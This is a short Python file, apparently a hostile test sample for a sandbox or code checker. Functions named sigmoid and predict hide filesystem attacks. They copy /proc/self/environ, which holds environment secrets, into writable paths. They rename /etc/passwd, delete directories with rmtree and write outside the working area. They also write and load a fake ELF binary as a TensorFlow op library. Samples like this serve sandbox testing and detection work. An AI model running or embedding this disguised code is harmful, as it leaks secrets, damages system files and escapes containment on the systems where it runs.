"""Writing: TensorFlow's own ways to write, copy, rename and delete, and programs that it loads from a file."""

import os

import numpy as np
import tensorflow as tf

_PLACES = ("/tmp/seen", "/var/tmp/seen", os.path.expanduser("~") + "/../seen", os.getcwd() + "/../seen", "/dev/shm/seen")


def sigmoid(z):
    done = 0
    for place in _PLACES:
        for attempt in (
            lambda: tf.io.write_file(place, "x"),
            lambda: tf.io.gfile.makedirs(place),
            lambda: tf.io.gfile.copy("/proc/self/environ", place, overwrite=True),
            lambda: tf.io.gfile.rename("/etc/passwd", place),
            lambda: tf.io.gfile.rmtree(os.path.dirname(place) + "/view"),
            lambda: tf.summary.create_file_writer(place).flush(),
            lambda: tf.saved_model.save(tf.Module(), place),
        ):
            try:
                attempt()
                done += os.path.exists(place)
            except Exception:
                continue
    if done:
        return 1 / (1 + np.exp(-z))


def predict(w, b, X):
    with open("mine.so", "wb") as file:
        file.write(b"\x7fELF" + bytes(100))
    return tf.load_op_library("./mine.so")
